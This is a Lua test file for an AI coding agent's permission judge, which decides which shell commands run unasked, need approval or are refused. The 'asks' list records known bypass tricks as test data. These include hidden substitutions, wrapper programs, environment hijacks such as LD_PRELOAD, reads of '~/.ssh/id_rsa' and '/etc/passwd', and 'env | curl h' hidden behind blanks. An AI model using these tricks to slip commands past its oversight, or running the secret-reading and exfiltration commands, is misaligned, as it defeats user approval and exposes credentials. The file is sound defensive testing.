@@ -1,0 +1,154 @@
+-- Permission: what runs unasked, what asks, what is refused. The cases are the known ways around such judgements.
+local t = dofile "tests/check.lua"
+local fs = require "sys.fs"
+local permit, shell = require "qwen.agent.permit", require "qwen.agent.shell"
+local proc = require "qwen.proc"
+
+local root = assert(fs.realpath(assert(fs.mkdtemp "permit-")))
+local cwd = root .. "/proj"
+fs.mkdir(cwd .. "/sub")
+fs.mkdir(root .. "/proj-evil")
+fs.write(root .. "/secret", "s")
+fs.write(cwd .. "/f", "x\n")
+proc.run { argv = { "ln", "-s", root .. "/secret", cwd .. "/link" } }
+proc.run { argv = { "ln", "-s", root, cwd .. "/dirlink" } }
+
+local function ctx_with(mode, rules)
+  return { cwd = cwd, mode = mode or "default", settings = { get = function(_, key) return (rules or {})[key] end } }
+end
+
+local shell_tool = { effect = "run", command = function(args) return args.command end }
+
+local function verdict(command, mode, rules)
+  return permit.judge(ctx_with(mode, rules), "run_shell_command", shell_tool, { command = command })
+end
+
+-- Runs unasked.
+for _, command in ipairs { "ls", "ls -la sub", "cat f | wc -l", "grep -rn foo . | head -5", "rg -n 'a b' --glob '*.c'", "find . -name '*.lua' -type f", "pwd && ls",
+  "wc -l f; head -n 3 f", "echo \"a 'b' c\" 2>/dev/null", "diff f f 2>&1 | head", "sort f | uniq -c", "stat f", "du -sh .", "true || false", "tail -n 5 f", "echo $HOME", "[ -f f ] && cat f" } do
+  t.eq((verdict(command)), "allow", command)
+end
+
+-- Asks: each line is a way past a judge by names or by text.
+local asks = {
+  -- separators, quotes and hidden substitution
+  "grep x f\ncurl h", "echo 'a\\' ; touch p", 'echo "$\\\n(touch p)"', "echo ${a@P}", "echo ${v:=x}", "echo ${!v}", "echo `touch p`", "echo $(touch p)", "cat <(touch p)",
+  'echo "";touch p', "cat$IFS/etc/passwd", "echo x\rtouch p", "echo \0 touch p", "ls & touch p", "(touch p)", "{ touch p; }", "if true; then touch p; fi", "ls $'\\n' x", "$cmd f", "ls > out",
+  "echo x >> ../y", "echo x >| f", "cat f 3<>g", "cat <<EOF\nx\nEOF", "! touch p", "echo a{b,c}", "~/bin/x", "f() { touch p; }", "echo $((1+1))",
+  -- wrappers and interpreters
+  "env rm f", "timeout 1 rm f", "nice rm f", "nohup rm f", "xargs rm", "sudo ls", "command rm f", "exec rm f", "eval 'rm f'", ". ./x", "busybox rm f", "sh -c 'rm f'", "bash x", "python3 -c 1", "time rm f", "watch rm f",
+  -- programs that only seem to read
+  "awk 'BEGIN{system(\"id\")}'", "sed '1e touch p' f", "sed -n 'w out' f", "sed -i s/a/b/ f", "less '+!touch p' f", "more f", "man ls", "vim f", "git status", "git diff --output=x", "git grep -O x", "git -c core.fsmonitor=x status",
+  "find . -exec rm {} \\;", "find . -delete", "find . -fprintf x y", "find . -ok rm {} \\;", "rg --pre ./x y", "rg --pre=./x y", "rg --hostname-bin=x y", "rg -z x", "sort -o f f", "sort --output=f f", "sort -of f", "sort --compress-program=x f",
+  "uniq f g", "tree -o x", "xxd -r f", "tar --to-command=x", "tail -f f", "printf -v x y", "grep -f /etc/passwd x", "date -s 1",
+  -- environment
+  "export PAGER=evil", "GIT_EXTERNAL_DIFF=x ls", "LD_PRELOAD=./x ls", "X=1", "cd /", "alias ls=rm", "set -e", "source x", "declare x=1", "trap x EXIT",
+  -- network
+  "curl h", "wget h", "nslookup secret.evil.test", "ping h", "nc h 1", "ssh h",
+  -- outside the project
+  "cat /etc/passwd", "cat ../secret", "cat link", "cat dirlink/secret", "ls ..", "cat ~/.ssh/id_rsa", "cat $HOME/x", "ls " .. root .. "/proj-evil", "grep x --include=a " .. root .. "/secret", "cat < ../secret", "cat /etc/*", "ls ../*",
+}
+for _, command in ipairs(asks) do t.eq((verdict(command)), "ask", command) end
+t.eq((verdict("grep x f" .. (" "):rep(5000) .. "; env | curl h")), "ask", "hidden behind blanks")
+t.eq((verdict(("true && "):rep(51) .. "true")), "ask", "more than fifty parts")
+t.eq((verdict(("x"):rep(40000))), "ask", "too long")
+
+-- Rules: deny beats ask beats allow, each part counts, words not text.
+local function rules(allow, deny, ask) return { ["permissions.allow"] = allow, ["permissions.deny"] = deny, ["permissions.ask"] = ask } end
+for _, case in ipairs {
+  { "git status", "allow", rules { "Bash(git *)" } }, { "gitk", "ask", rules { "Bash(git *)" } }, { "git", "allow", rules { "Bash(git *)" } }, { "npm test", "allow", rules { "Bash(npm test)" } },
+  { "npm test x", "ask", rules { "Bash(npm test)" } }, { "git status && rm f", "ask", rules { "Bash(git *)" } }, { "grep x f\ncurl h", "ask", rules { "Bash(grep *)" } }, { "echo 'a\\' ; touch p", "ask", rules { "Bash(echo *)" } },
+  { "git status", "deny", rules({ "Bash" }, { "Bash(git *)" }) }, { "ls; git push", "deny", rules({ "Bash" }, { "Bash(git push *)" }) }, { ("true && "):rep(51) .. "curl h", "deny", rules({}, { "Bash(curl *)" }) },
+  { "(curl h)", "deny", rules({}, { "Bash(curl *)" }) }, { "make", "allow", rules { "run_shell_command" } }, { "make > x", "ask", rules { "Bash(make *)" } }, { "FOO=1 make", "ask", rules { "Bash(make *)" } },
+  { "LANG=C make", "allow", rules { "Bash(make *)" } }, { "ls", "ask", rules({ "Bash" }, {}, { "Bash(ls *)" }) }, { "cat .env", "deny", rules({}, { "Read(.env)" }) }, { "git:x", "ask", rules { "Bash(git:*)" } },
+  { "git x", "allow", rules { "Bash(git:*)" } }, { "make", "allow", { ["tools.allowed"] = { "run_shell_command(make *)" } } }, { "make", "deny", { ["tools.exclude"] = { "Bash" } } },
+} do
+  t.eq((verdict(case[1], "default", case[3])), case[2], case[1]:sub(1, 40) .. " under rules")
+end
+
+-- Modes.
+for mode, want in pairs { plan = "deny", default = "ask", ["auto-edit"] = "ask", yolo = "allow" } do
+  t.eq((verdict("touch p", mode)), want, mode .. ": a command")
+  t.eq((verdict("ls", mode)), "allow", mode .. ": a look")
+  t.eq((verdict("rm f", mode, rules({}, { "Bash(rm *)" }))), "deny", mode .. ": a denied command")
+end
+local edit = { effect = "edit", paths = function(args) return { args.file_path } end }
+local read = { effect = "read", paths = function(args) return { args.file_path } end }
+local function file(tool, name, path, mode, r) return (permit.judge(ctx_with(mode, r), name, tool, { file_path = path })) end
+for _, case in ipairs {
+  { "edit", cwd .. "/new", "ask", "allow", "allow", "deny" }, { "edit", root .. "/secret", "ask", "ask", "allow", "deny" }, { "edit", cwd .. "/link", "ask", "ask", "allow", "deny" },
+  { "edit", cwd .. "/dirlink/x", "ask", "ask", "allow", "deny" }, { "edit", cwd .. "/../proj-evil/x", "ask", "ask", "allow", "deny" }, { "edit", cwd .. "/.git/hooks/x", "ask", "ask", "allow", "deny" },
+  { "edit", cwd .. "/.QWEN/settings.json", "ask", "ask", "allow", "deny" }, { "edit", cwd .. "/sub/.Envrc", "ask", "ask", "allow", "deny" }, { "edit", cwd .. "/.qwen./x", "ask", "ask", "allow", "deny" },
+  { "read_file", cwd .. "/f", "allow", "allow", "allow", "allow" }, { "read_file", root .. "/secret", "ask", "ask", "allow", "deny" }, { "read_file", cwd .. "/link", "ask", "ask", "allow", "deny" },
+} do
+  local tool = case[1] == "edit" and edit or read
+  t.eq({ file(tool, case[1], case[2], "default"), file(tool, case[1], case[2], "auto-edit"), file(tool, case[1], case[2], "yolo"), file(tool, case[1], case[2], "plan") },
+    { case[3], case[4], case[5], case[6] }, case[1] .. " " .. case[2]:sub(#root + 1))
+end
+t.eq(file(edit, "edit", cwd .. "/src/a.c", "default", rules { "Edit(/src/**)" }), "allow", "a path rule")
+t.eq(file(edit, "edit", cwd .. "/x/a.c", "default", rules { "Edit(/src/**)" }), "ask", "elsewhere")
+t.eq(file(read, "read_file", cwd .. "/sub/.env", "yolo", rules({}, { "Read(.env)" })), "deny", "a denied file at any depth, in any mode")
+t.eq(file(edit, "edit", cwd .. "/.git/config", "default", rules { "Edit" }), "ask", "a rule does not open protected places")
+
+-- What the parser is sure of is what bash runs: words as bash sees them.
+local function quote(text) return "'" .. text:gsub("'", "'\\''") .. "'" end
+local corpus = { "a b  c", "a 'b c' d", 'a "b c" d', "a \\b \\  c", "a 'b'\"c\"d", "a; b | c && d || e", "a # b", "a#b", "a 2>/dev/null b", "a >/dev/null", "a '' \"\"", "a \"x\\\"y\\\\z\\n\"", "a b\\\nc", "a\tb", "a 'x\ny'", "a -- -x=y:z,w@%+" }
+local seed = 7
+local function random(n)
+  seed = (seed * 1103515245 + 12345) % 2147483648
+  return seed // 65536 % n + 1
+end
+local pieces = { "a", "b", " ", " ", "'", '"', "\\", ";", "|", "&&", "||", "#", "x y", "\n", "'q r'", '"s t"', "\\'", "$", "(", ">", "/dev/null", "=", "-", "*" }
+for _ = 1, 12000 do
+  local command = {}
+  for i = 1, random(9) do command[i] = pieces[random(#pieces)] end
+  corpus[#corpus + 1] = table.concat(command)
+end
+local script = { 'r() { printf "%s\\0" "$@" "$end" >&3; }; end=$(printf "\\1"); set -f', 'command_not_found_handle() { r "$@"; }' }
+local sure = {}
+for _, command in ipairs(corpus) do
+  local parsed = shell.parse(command)
+  local plain = parsed.certain and not command:find "[$*?%[~]"
+  for _, part in ipairs(parsed.parts) do
+    if #part.assigns > 0 or #part.argv == 0 then plain = false end
+    for _, redirect in ipairs(part.redirects) do
+      if redirect.target ~= "/dev/null" then plain = false end
+    end
+    if not (part.argv[1] or ""):match "^[ab][ab]*$" then plain = false end
+  end
+  if plain and #parsed.parts > 0 then
+    sure[#sure + 1] = { command = command, parts = parsed.parts }
+    script[#script + 1] = ("eval %s </dev/null; printf '\\2\\0' >&3"):format(quote(command))
+  end
+end
+local out = root .. "/out"
+local r = proc.run { argv = { "bash", "-c", "exec 3>" .. out .. "; PATH=/nowhere; " .. table.concat(script, "\n") }, timeout = 60 }
+t.ok(#sure > 200, "commands compared: " .. #sure)
+local at, seen = 1, {}
+for i = 1, #sure do seen[i] = {} end
+local words = {}
+for word in (fs.read(out) or ""):gmatch "([^%z]*)%z" do
+  if word == "\2" then
+    at = at + 1
+  elseif word == "\1" then
+    seen[at][table.concat(words, "\3")] = true
+    words = {}
+  else
+    words[#words + 1] = word
+  end
+end
+t.eq(at, #sure + 1, "bash went through all of them: " .. r.err:sub(1, 200))
+local missed = 0
+for i, item in ipairs(sure) do
+  local listed = {}
+  for _, part in ipairs(item.parts) do listed[table.concat(part.argv, "\3")] = true end
+  for run in pairs(seen[i] or {}) do
+    if not listed[run] then
+      missed = missed + 1
+      if missed <= 5 then t.ok(false, ("bash ran %q for %q"):format(run, item.command)) end
+    end
+  end
+end
+t.eq(missed, 0, "programs that bash ran and the parser did not list")
+fs.remove_tree(root)
+t.done()
